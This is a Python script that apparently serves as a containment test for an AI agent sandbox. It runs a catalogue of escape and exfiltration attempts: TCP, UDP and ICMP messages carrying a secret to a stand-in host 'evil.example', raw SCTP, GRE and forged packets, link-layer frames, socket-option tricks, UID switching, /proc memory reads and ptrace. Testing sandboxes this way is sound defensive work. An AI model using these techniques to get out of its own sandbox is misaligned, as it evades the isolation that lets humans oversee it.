# What an agent tries in order to get out. Usage: agent.py ATTEMPT [ADDRESS] [PORT]. Prints one line: what came of it.
import ctypes
import errno
import os
import socket
import struct
import sys

attempt, address, port = sys.argv[1], (sys.argv + ["", ""])[2], int((sys.argv + ["", "", "0"])[3] or 0)
family = socket.AF_INET6 if ":" in address else socket.AF_INET
SECRET = b"the secret"


def tcp(source=None, prepare=None):
    with socket.socket(family, socket.SOCK_STREAM) as wire:
        wire.settimeout(3)
        if prepare:
            prepare(wire)
        if source:
            wire.bind(("", source))
        wire.connect((address, port))
        wire.sendall(b"GET / HTTP/1.1\r\nhost: evil.example\r\nconnection: close\r\n\r\n")
        return wire.recv(65535).split(b"\r\n")[0].decode("latin1")


def udp(prepare=None):
    with socket.socket(family, socket.SOCK_DGRAM) as wire:
        wire.settimeout(1)
        if prepare:
            prepare(wire)
        wire.connect((address, port))
        wire.send(SECRET)
        return "answer of %d bytes" % len(wire.recv(65535))


def icmp(kind):
    protocol = socket.IPPROTO_ICMPV6 if family == socket.AF_INET6 else socket.IPPROTO_ICMP
    echo = 128 if family == socket.AF_INET6 else 8
    with socket.socket(family, kind, protocol) as wire:
        wire.settimeout(1)
        wire.connect((address, 0))
        body = struct.pack("!BBHHH", echo, 0, 0, 7, 1) + SECRET
        if family == socket.AF_INET:
            total = sum(struct.unpack("!%dH" % (len(body) // 2), body))
            total = (total >> 16) + (total & 0xFFFF)
            body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
        wire.send(body)
        return "answer of %d bytes" % len(wire.recv(65535))


def raw(protocol, body):
    with socket.socket(family, socket.SOCK_RAW, protocol) as wire:
        wire.settimeout(1)
        wire.sendto(body, (address, 0))
        return "sent"


def frame():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as wire:
        wire.bind(("eth0", 0))
        total = 28 + len(SECRET)
        packet = struct.pack("!BBHHHBBH", 0x45, 0, total, 1, 0, 64, 17, 0)
        packet += socket.inet_aton("10.77.0.2") + socket.inet_aton(address)
        check = sum(struct.unpack("!10H", packet))
        check = ~((check >> 16) + (check & 0xFFFF)) & 0xFFFF
        packet = packet[:10] + struct.pack("!H", check) + packet[12:]
        packet += struct.pack("!HHHH", 4433, port, 8 + len(SECRET), 0) + SECRET
        wire.send(b"\xff" * 6 + b"\x02" * 6 + struct.pack("!H", 0x0800) + packet)
        return "sent"


def become(uid):
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    return tcp()


def option(level, name, value):
    return lambda wire: wire.setsockopt(level, name, value)


ATTEMPTS = {
    "tcp": tcp,
    "udp": udp,
    "tcp-from-15061": lambda: tcp(source=15061),
    "ping": lambda: icmp(socket.SOCK_DGRAM),
    "raw-ping": lambda: icmp(socket.SOCK_RAW),
    "sctp": lambda: raw(132, struct.pack("!HHII", 4433, port, 0, 0) + SECRET),
    "gre": lambda: raw(47, b"\0\0\x08\0" + SECRET),
    "raw-tcp-ack": lambda: raw(6, struct.pack("!HHIIBBHHH", 4433, port, 1, 1, 0x50, 0x10, 1024, 0, 0) + SECRET),
    "frame": frame,
    "marked": lambda: tcp(prepare=option(socket.SOL_SOCKET, 36, 0x65677265)),
    "bound-to-loopback": lambda: udp(prepare=option(socket.SOL_SOCKET, 25, b"lo\0")),
    "bound-to-device": lambda: tcp(prepare=option(socket.SOL_SOCKET, 25, b"eth0\0")),
    "transparent": lambda: tcp(prepare=option(socket.SOL_IP, 19, 1)),
    "source-routed": lambda: tcp(prepare=option(socket.SOL_IP, 4, b"\x83\x07\x04" + socket.inet_aton("10.77.0.1") + b"\0")),
    "become-sidecar": lambda: become(64777),
    "read-memory": lambda: open("/proc/%s/mem" % address, "rb") and "open",
    "trace": lambda: os.strerror(trace(int(address))),
}


def trace(process):
    libc = ctypes.CDLL(None, use_errno=True)
    return 0 if libc.ptrace(16, process, 0, 0) == 0 else ctypes.get_errno()


try:
    print(ATTEMPTS[attempt]())
except OSError as error:
    print(errno.errorcode.get(error.errno, "timed out" if isinstance(error, TimeoutError) else str(error)))
